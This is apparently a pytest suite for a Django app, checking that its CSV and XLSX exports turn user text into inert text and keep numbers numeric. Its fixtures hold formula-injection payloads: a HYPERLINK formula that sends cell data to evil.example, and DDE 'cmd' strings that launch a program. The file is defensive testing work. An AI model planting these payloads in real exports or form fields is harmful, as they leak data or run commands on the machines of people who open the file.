"""No text a person typed becomes a live formula in an export (CSV or XLSX), and the
numbers the application writes stay numbers."""

from __future__ import annotations

import ast
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.reports.factories import answer, make_assessment, make_city
from vertebra.planning.models import Action
from vertebra.reports.exports import csv_row, export_csv, export_xlsx
from vertebra.reports.imports import import_answers

pytestmark = pytest.mark.django_db

HOSTILE = {
    "L1S1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "L1S2": "+1+cmd|' /C calc'!A0",
    "L1M1": "-2+3",
    "L1M2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "L1R1": "#N/A",
    "L1M3": "ordinary; with a separator, and = inside",
}


@pytest.fixture
def hostile():
    city = make_city(name="=1+2")
    a = make_assessment(city, title="@SUM(A1:A9)")
    for code, text in HOSTILE.items():
        answer(a, code, evidence=text)
    answer(a, "P1S1", status="in_progress", progress=40, owner="-Mayor")
    Action.objects.create(
        city=city,
        assessment=a,
        title="=cmd|' /C calc'!A0",
        description="\t=1+1",
        owner_department="@office",
        due_date=dt.date(2027, 1, 31),
        cost=Decimal("1200.50"),
    )
    return a


def test_csv_export_prefixes_formula_text_and_quotes_it_but_keeps_numbers_bare(hostile):
    lines = export_csv(hostile).decode("utf-8-sig").split("\r\n")
    rows = {line.split(",", 1)[0]: line for line in lines[1:] if line}
    assert lines[0].startswith("objective,dimension,policy")
    # Evidence is the 8th column: the text with a leading ' inside quotes.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in rows['"L1S1"']
    assert ",\"'+1+cmd|' /C calc'!A0\"," in rows['"L1S2"']
    assert ',"\'-2+3",' in rows['"L1M1"']
    assert ",\"'@SUM(1+1)*cmd|' /C calc'!A0\"," in rows['"L1M2"']
    assert ',"#N/A",' in rows['"L1R1"']
    assert ',"ordinary; with a separator, and = inside",' in rows['"L1M3"']
    # The progress the application writes is a bare number; the owner is inert text.
    assert ',"in_progress",40,"","","\'-Mayor",' in rows['"P1S1"']


def test_csv_cells_start_every_formula_like_text_with_a_quote_and_leave_numbers_alone():
    row = ["\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "-", "a=b", "", 7, Decimal("1.5"), None]
    assert csv_row(row) == [
        "'\t=1+1",
        "'\n=1+1",  # a lone carriage return is a line break, written as one
        "'\n=1",
        "'\uff1d1+1",
        "'-",
        "a=b",
        "",
        7,
        Decimal("1.5"),
        "",
    ]


def test_csv_export_with_inert_text_imports_back_to_the_same_text(hostile):
    other = make_assessment(make_city("harbourville", "Harbourville"))
    import_answers(assessment=other, user=None, data=export_csv(hostile), filename="a.csv")
    evidence = dict(other.answers.values_list("objective__code", "evidence"))
    assert {code: evidence[code] for code in HOSTILE} == HOSTILE
    assert other.answers.get(objective__code="P1S1").owner == "-Mayor"


def test_xlsx_export_stores_every_text_as_text_and_numbers_as_numbers(hostile):
    wb = load_workbook(io.BytesIO(export_xlsx(hostile)))
    evidence = {row[0].value: row[7] for row in wb["Answers"].iter_rows(min_row=2)}
    for code, text in HOSTILE.items():
        assert (evidence[code].value, evidence[code].data_type) == (text, "s"), code
    progress = next(r[6] for r in wb["Answers"].iter_rows(min_row=2) if r[0].value == "P1S1")
    assert (progress.value, progress.data_type) == (40, "n")
    action = next(wb["Actions"].iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in (action[0], action[4], action[10])] == [
        ("=cmd|' /C calc'!A0", "s"),
        ("@office", "s"),
        ("\t=1+1", "s"),
    ]
    assert (action[6].value, action[6].data_type) == (dt.datetime(2027, 1, 31), "d")
    assert (action[7].value, action[7].data_type) == (1200.5, "n")
    city = next(wb["Profile"].iter_rows(min_row=2))[2]
    assert (city.value, city.data_type) == ("=1+2", "s")
    about = {row[0].value: row[1] for row in wb["About"].iter_rows()}
    assert (about["Assessment"].value, about["Assessment"].data_type) == ("@SUM(A1:A9)", "s")
    assert not any(cell.data_type == "f" for ws in wb for row in ws.iter_rows() for cell in row)


def test_every_spreadsheet_writer_is_in_the_exports_module_and_goes_through_its_rows():
    """A new CSV or XLSX writer elsewhere would skip the inert-text rule."""
    root = Path(__file__).resolve().parents[2] / "vertebra"
    writers = []
    for path in sorted(root.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        if "csv.writer" in source or "csv.DictWriter" in source or "Workbook(" in source:
            writers.append(path.relative_to(root).as_posix())
    assert writers == ["reports/exports.py"]
    tree = ast.parse((root / "reports/exports.py").read_text(encoding="utf-8"))
    calls = [
        (node.func.attr, getattr(node.args[0], "func", None))
        for node in sorted(ast.walk(tree), key=lambda node: getattr(node, "lineno", 0))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in {"append", "writerow", "writerows"}
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id in {"ws", "writer"}
    ]
    assert [(name, getattr(func, "id", None)) for name, func in calls] == [
        ("writerow", "csv_row"),
        ("append", None),  # inside xlsx_row, with the cells it made
    ]
